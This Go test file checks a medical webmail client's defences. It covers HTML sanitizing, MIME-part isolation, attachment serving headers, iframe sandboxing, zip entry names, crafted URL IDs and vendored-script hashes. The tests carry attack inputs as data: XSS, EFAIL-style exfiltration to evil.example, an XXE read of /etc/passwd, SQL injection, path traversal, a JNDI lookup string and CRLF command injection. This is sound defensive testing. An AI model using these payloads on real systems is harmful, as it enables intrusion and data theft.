package web_test

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"pli.example/pli/internal/demo/people"
	"pli.example/pli/internal/sanitize"
	"pli.example/pli/internal/testkit"
)

// TestRowLetters are attacks by a letter, each delivered to a world of its own and
// read through the pages.
func TestRowLetters(t *testing.T) {
	t.Parallel()
	k := testkit.New(t)
	c := k.SignIn("martin")
	for _, row := range []struct {
		name string
		test func(*testing.T, *testkit.Kit, *testkit.Client)
	}{
		{"NothingRewrites", nothingRewrites}, {"TextsApart", textsApart}, {"FilesThatRun", filesThatRun}, {"ImageBombs", imageBombs},
		{"FrameSandbox", frameSandbox}, {"ZipNames", zipNames},
	} {
		t.Run(row.name, func(t *testing.T) { row.test(t, k.For(t), c) })
	}
}

// deliver puts a letter in the inbox and gives its address.
func deliver(t *testing.T, k *testkit.Kit, c *testkit.Client, subject, rest string) string {
	t.Helper()
	raw := "From: Dr Attaque <a@evil.example>\nTo: claire.martin@medecin.mssante.fr\nSubject: " + subject + "\nMIME-Version: 1.0\n" + rest
	if !k.World.Mail().Put(people.MartinBox, "INBOX", nil, k.Clock.Now(), []byte(strings.ReplaceAll(raw, "\n", "\r\n"))) {
		t.Fatal("not delivered")
	}
	return strings.SplitN(hrefOf(t, c, "/", subject), "?", 2)[0]
}

// part writes one part of a multipart whose boundary is B, in base64.
func part(typ, name string, content []byte) string {
	return "--B\nContent-Type: " + typ + "; name=\"" + name + "\"\nContent-Disposition: attachment; filename=\"" + name +
		"\"\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString(content) + "\n"
}

const mixed = "Content-Type: multipart/mixed; boundary=B\n\n"

// framed gives what stands in the body of a letter's document, byte for byte.
func framed(t *testing.T, c *testkit.Client, href string) string {
	t.Helper()
	_, rest, _ := strings.Cut(ok(t, c.Get(href+"/body", testkit.For("iframe"))).Text(), "<body>")
	in, _, found := strings.Cut(rest, "</body>")
	if !found {
		t.Fatal("no body in the letter's document")
	}
	return in
}

// Attack 2: what the sanitizer wrote is what the frame holds, byte for byte.
func nothingRewrites(t *testing.T, k *testkit.Kit, c *testkit.Client) {
	in := `<p style="color:red">Bonjour &lt;b&gt; &amp;lt; <a href="https://ok.example/?a=1&amp;b=2">lien</a> <img alt="&quot; onerror=alert(1) x=&quot;" src=x>` +
		`<a href="https://evil.example/">https://www.ameli.fr/</a> <bgsound src="https://evil.example/x"> http://clair.example/ &#60;script&#62;alert(1)&#60;/script&#62; javascript:alert(1)<pre>` + "\n\n" + `x</pre>`
	href := deliver(t, k, c, "rien ne récrit", "Content-Type: text/html; charset=utf-8\n\n"+in+"\n")
	want := string(sanitize.HTML([]byte(in+"\r\n"), sanitize.Options{}).HTML)
	if got := framed(t, c, href); strings.TrimSpace(got) != strings.TrimSpace(want) {
		t.Errorf("the frame holds\n%q\nthe sanitizer wrote\n%q", got, want)
	}
}

// Attacks 59 and 3: texts of one letter are judged each on its own: a tag left open
// in one cannot swallow the next, as the direct exfiltration of EFAIL does.
func textsApart(t *testing.T, k *testkit.Kit, c *testkit.Client) {
	for i, open := range []string{`<img src="https://evil.example/?`, `<a href='https://evil.example/?`, `<p>avant<!--`, `<style>`, `<textarea>`, `<svg><title>`, `<table><tr><td title="`, `<plaintext>`, `<img alt="x" src=https://evil.example/?`} {
		subject := "textes à part " + string(rune('a'+i))
		href := deliver(t, k, c, subject, mixed+"--B\nContent-Type: text/html\n\n"+open+"\n--B\nContent-Type: text/plain\n\nle-secret-du-patient\n--B\nContent-Type: text/html\n\n\"'>--></style></textarea>fin\n--B--\n")
		d := doc(t, ok(t, c.Get(href+"/body", testkit.For("iframe"))))
		if !strings.Contains(d.Find("body > div").Text(), "le-secret-du-patient") {
			t.Errorf("after %s the next text is not shown as text: %s", open, d.Find("body").Text())
		}
		d.Find("body *").Each(func(_ int, s *selection) {
			for _, a := range s.Nodes[0].Attr {
				if strings.Contains(a.Val, "secret") || strings.HasPrefix(a.Val, "https://evil") {
					t.Errorf("after %s: <%s %s=%q>", open, s.Nodes[0].Data, a.Key, a.Val)
				}
			}
		})
	}
}

// Attacks 17, 19, 21, 22 and 26: whatever a browser, a style sheet processor or a
// calendar could run comes down as bytes to save, the sender's own, and has no view.
func filesThatRun(t *testing.T, k *testkit.Kit, c *testkit.Client) {
	files := []struct{ typ, name, content string }{
		{"text/html", "a.html", "<script>alert(1)</script>"}, {"application/xhtml+xml", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`},
		{"image/svg+xml", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`}, {"text/javascript", "a.js", "alert(1)"},
		{"application/javascript; charset=utf-7", "b.js", "alert(1)"}, {"text/css", "a.css", "*{background:url(https://evil.example/)}"},
		{"text/xml", "CDA.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><ClinicalDocument xmlns="urn:hl7-org:v3"><component><nonXMLBody><text mediaType="text/html">&x;</text></nonXMLBody></component></ClinicalDocument>`},
		{"application/xslt+xml", "a.xsl", "<xsl:stylesheet/>"}, {"text/calendar; method=REQUEST", "a.ics", "BEGIN:VCALENDAR\r\nDESCRIPTION:<script>alert(1)</script>\r\nATTACH:https://evil.example/\r\nEND:VCALENDAR\r\n"},
		{"application/ms-tnef", "winmail.dat", "\x78\x9f\x3e\x22"}, {"text/rtf", "a.rtf", `{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "https://evil.example/"}}}`},
		{"application/x-shockwave-flash", "a.swf", "CWS"}, {"message/http", "a.http", "HTTP/1.1 200 OK"},
		{"text/html", "image.png", "\x89PNG <script>alert(1)</script>"}, {"image/png", "faux.png", "<html><script>alert(1)</script>"}, {"application/pdf", "faux.pdf", "<html><script>alert(1)</script>%PDX-"},
		{"application/x-msdownload", "a.exe", "MZ\x90"}, {"text/vnd.wap.wml", "a.wml", "<wml/>"}, {"application/zip", "IHE_XDM.zip", "PK\x03\x04../../x"},
		{"application/pkcs7-mime", "smime.p7m", "\x30\x80"}, {"application/x-www-form-urlencoded", "a", "x=1"}, {"x/y; charset=\"><script>", "b", "<script>"},
	}
	var b strings.Builder
	for _, f := range files {
		b.WriteString(part(f.typ, f.name, []byte(f.content)))
	}
	href := deliver(t, k, c, "pièces qui courent", mixed+"--B\nContent-Type: text/plain\n\nmot\n"+b.String()+"--B--\n")
	page := doc(t, ok(t, c.Get(href, testkit.Fragment)))
	if n := page.Find("[data-testid=attachment-download]").Length(); n != len(files) {
		t.Errorf("%d files listed of %d", n, len(files))
	}
	if n := page.Find("[data-testid=attachment] iframe, [data-testid=nested-letter], object, embed").Length(); n > 0 {
		t.Errorf("%d of them are shown in the page", n)
	}
	page.Find("[data-testid=attachment] img").Each(func(_ int, s *selection) { // what calls itself a picture is looked at before it is sent
		if a := c.Get(s.AttrOr("src", ""), testkit.For("image")); a.Status != 400 {
			t.Errorf("%s answered %d %s", a.URL.Path, a.Status, a.Header.Get("Content-Type"))
		}
	})
	inert := map[string]bool{"application/octet-stream": true, "application/pdf": true, "application/zip": true, "image/png": true}
	for i, f := range files {
		at := href + "/part/" + string("0123456789"[(i+2)/10]) + string("0123456789"[(i+2)%10])
		at = strings.Replace(at, "/part/0", "/part/", 1)
		a := ok(t, c.Get(at))
		if string(a.Body) != f.content {
			t.Errorf("%s: not the sender's bytes: %.60q", f.name, a.Text())
		}
		if ct := a.Header.Get("Content-Type"); !inert[ct] || ct == "image/png" && f.typ != "image/png" {
			t.Errorf("%s: served as %q", f.name, ct)
		}
		if h := a.Header; !strings.HasPrefix(h.Get("Content-Disposition"), "attachment;") || h.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.HasPrefix(h.Get("Content-Security-Policy"), "sandbox; default-src 'none'") || h.Get("Cross-Origin-Resource-Policy") != "same-origin" {
			t.Errorf("%s: headers %v", f.name, h)
		}
		if a := c.Get(at + "/view"); a.Status != 303 || a.Location() != at {
			t.Errorf("%s: /view answered %d", f.name, a.Status)
		}
		if a := c.Get(at+"/raw", testkit.For("empty")); a.Status != 400 {
			t.Errorf("%s: /raw answered %d %s", f.name, a.Status, a.Header.Get("Content-Type"))
		}
		if a := c.Get(at+"/inline", testkit.For("image")); a.Status != 400 {
			t.Errorf("%s: /inline answered %d %s", f.name, a.Status, a.Header.Get("Content-Type"))
		}
	}
}

// Attack 8: the frame of a letter, wherever one is shown, keeps what is in it: no
// script, no form, no way to the page above.
func frameSandbox(t *testing.T, k *testkit.Kit, c *testkit.Client) {
	href := deliver(t, k, c, "cadre", mixed+"--B\nContent-Type: text/html\n\n<p style=\"position:fixed;top:0\">faux guichet</p>\n--B\nContent-Type: message/rfc822\n\nFrom: b@evil.example\nSubject: dedans\nContent-Type: text/html\n\n<p>x</p>\n--B--\n")
	frames := 0
	for _, path := range []string{href, href + "/print"} {
		doc(t, ok(t, c.Get(path))).Find("iframe").Each(func(_ int, s *selection) {
			frames++
			if got := s.AttrOr("sandbox", "none"); got != "allow-same-origin allow-popups allow-popups-to-escape-sandbox" {
				t.Errorf("%s: sandbox %q", path, got)
			}
			if src := s.AttrOr("src", ""); !strings.HasPrefix(src, href+"/body") || s.AttrOr("srcdoc", "") != "" || s.AttrOr("allow", "") != "" {
				t.Errorf("%s: frame of %q", path, src)
			}
		})
	}
	if frames < 3 {
		t.Errorf("%d frames looked at: the test proves nothing", frames)
	}
}

// Attacks 20 and 24: the archive we make holds plain names only, each once.
func zipNames(t *testing.T, k *testkit.Kit, c *testkit.Client) {
	names := []string{"../../etc/cron.d/x", "..\\\\..\\\\x.exe", "/abs/x", "C:\\\\x.dll", "a.pdf", "A.PDF", "a.pdf", "con.txt", "facture\u202efdp.exe", "a/../b", "..", ".", "x", "a:b", "lien -> /etc", strings.Repeat("z", 900) + ".pdf"}
	var b strings.Builder
	for _, n := range names {
		b.WriteString(part("application/octet-stream", n, []byte("x")))
	}
	href := deliver(t, k, c, "archive", mixed+"--B\nContent-Type: text/plain\n\nmot\n"+b.String()+"--B--\n")
	a := ok(t, c.Get(href+"/zip"))
	z, err := zip.NewReader(bytes.NewReader(a.Body), int64(len(a.Body)))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, f := range z.File {
		key := strings.ToLower(f.Name)
		if seen[key] || strings.ContainsAny(f.Name, "/\\:\x00\u202e") || strings.HasPrefix(f.Name, ".") || len(f.Name) > 160 || strings.HasPrefix(key, "con.") || !f.Mode().IsRegular() {
			t.Errorf("an entry named %q, mode %v", f.Name, f.Mode())
		}
		seen[key] = true
	}
	if len(z.File) != len(names) {
		t.Errorf("%d entries of %d", len(z.File), len(names))
	}
}

// Attacks 45, 48 and 49: what is no id of ours in an address or a form opens
// nothing, breaks nothing and comes back as text.
func TestRowCraftedIDs(t *testing.T) {
	t.Parallel()
	k := shared.For(t)
	c := k.SignIn("fournier")
	parts := strings.Split(strings.SplitN(letterLinks(t, c, "/")[0], "?", 2)[0], "/") // "", mail, box, folder, validity, uid
	for _, evil := range []string{"' OR '1'='1", "x' UNION SELECT * FROM sessions --", "'; DROP TABLE audit; --", "%27%20OR%201=1", "../../etc/passwd", "INBOX", "*", "%00", "<svg onload=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example}", "a\r\nT9 LOGOUT", strings.Repeat("a", 5000)} {
		e := url.PathEscape(evil)
		for _, path := range []string{"/mail/" + e, "/mail/" + e + "/" + parts[3], "/mail/" + parts[2] + "/" + e, "/mail/" + parts[2] + "/search/" + e,
			"/mail/" + parts[2] + "/" + e + "/" + parts[4] + "/" + parts[5], "/mail/" + parts[2] + "/" + parts[3] + "/" + e + "/" + parts[5],
			"/mail/" + parts[2] + "/" + parts[3] + "/" + parts[4] + "/" + e, strings.Join(parts, "/") + "/part/" + e, strings.Join(parts, "/") + "/body?part=" + url.QueryEscape(evil), "/static/" + e} {
			a := c.Get(path, testkit.With("Sec-Fetch-Dest", ""))
			if a.Status != 404 && a.Status != 410 && a.Status != 400 {
				t.Errorf("%.120s answered %d", path, a.Status)
			}
			if doc(t, a).Find("svg[onload]").Length() > 0 || strings.Contains(a.Text(), "49") && evil == "{{7*7}}" {
				t.Errorf("%.120s: the address is markup", path)
			}
		}
		for _, try := range []struct {
			path string
			form url.Values
		}{
			{"/sessions/revoke", values("id", evil)}, {"/mail/" + parts[2] + "/undo", values("undo", evil)},
			{"/mail/" + parts[2] + "/act?do=archive", values("ref", evil)}, {"/mail/" + parts[2] + "/act?do=archive", values("ref", evil+"/1/1")},
			{"/mail/" + parts[2] + "/act?do=move", values("ref", strings.Join(parts[3:6], "/"), "to", evil)},
			{"/mail/" + parts[2] + "/act?do=" + url.QueryEscape(evil), values("ref", strings.Join(parts[3:6], "/"))},
		} {
			if a := c.Post(try.path, try.form); a.Status != 404 && a.Status != 400 && a.Status != 410 {
				t.Errorf("%.80s with %.60q answered %d", try.path, evil, a.Status)
			}
		}
	}
	ok(t, c.Get(strings.Join(parts, "/")))
	ok(t, c.Get("/journal"))
}

// Attacks 18, 38, 50 and 51: our scripts keep nothing after the page, listen to no
// other window, evaluate nothing, and run no pattern a letter could slow down.
func TestRowOwnScripts(t *testing.T) {
	t.Parallel()
	bad := regexp.MustCompile(`serviceWorker|caches\.|indexedDB|localStorage|postMessage|onmessage|addEventListener\("message"|window\.opener|new RegExp|\.matchAll\(|\beval\(|new Function`)
	// Whether notifications are wanted, yes or no; tabs of ours among themselves: no other origin hears a channel.
	allowed := regexp.MustCompile(`localStorage\.[gs]etItem\("pli:notify"|\bchannel\.(postMessage|onmessage|addEventListener\("message")`)
	files, err := filepath.Glob("../static/*.js")
	if err != nil || len(files) < 10 {
		t.Fatalf("%d scripts, %v", len(files), err)
	}
	for _, file := range files {
		name := filepath.Base(file)
		body, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		body = allowed.ReplaceAll(body, nil)
		if at := bad.Find(body); at != nil {
			t.Errorf("%s holds %s", name, at)
		}
		if name == "viewer.js" {
			for _, want := range []string{"isEvalSupported: false", "enableXfa: false"} {
				if !strings.Contains(string(body), want) {
					t.Errorf("the reader is not asked for %s", want)
				}
			}
			if regexp.MustCompile(`enableScripting: true|AnnotationLayer|renderForms|annotationMode`).Match(body) {
				t.Error("the reader draws links, forms or scripts of the document")
			}
		}
	}
}

// vendored is every script we did not write, byte for byte as it was reviewed.
var vendored = map[string]string{
	"dompurify/purify.min.js":                  "5c64f2cdc55474de0409a8e419d741285ab833f6f0818b76a8380dcc2d408078",
	"squire/squire.js":                         "eb02e4b6d8be703e8e1f27114c811e528b3ff88d29ccb50f302b4da984278a7d",
	"htmx/htmx.min.js":                         "a0abb04f2f45a1f89d1d4844023245537e5e6014c87b144553e0607b4cc32130",
	"htmx/hx-csp.min.js":                       "a7e1e6711ae6c3e50ad300fba7936cbe8d07599cdae313414a179ddd6b26e143",
	"pdfjs/codecs/jbig2_nowasm_fallback.js":    "70150223396487e1ccfef7eac61fc780074ad7fcc9e843b702a8a3bc23107494",
	"pdfjs/codecs/openjpeg_nowasm_fallback.js": "2855f1590e7fd7abbbf204cd13a5c09d30c92fe2c9313fb72b64aa763fe8b4f3",
	"pdfjs/pdf.min.mjs":                        "522ad2c83bc8a0010e7f0cc60d0892b77c8d2bf2c9702dc12288311d94270f42",
	"pdfjs/pdf.worker.min.mjs":                 "b4c8353ded0d88d2e2009574a29eb4e0c3ff7e942ecdf51ef5f71566a9667f31",
}

// Attack 60: no script of another's slips in or changes unseen.
func TestRowVendored(t *testing.T) {
	t.Parallel()
	found := 0
	tree := os.DirFS("../static/vendor")
	err := fs.WalkDir(tree, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(name, "js") {
			return err
		}
		body, err := fs.ReadFile(tree, name)
		if sum := sha256.Sum256(body); hex.EncodeToString(sum[:]) != vendored[name] {
			t.Errorf("%s is not what was reviewed", name)
		}
		found++
		return err
	})
	if err != nil || found != len(vendored) {
		t.Errorf("%d scripts of %d: %v", found, len(vendored), err)
	}
}
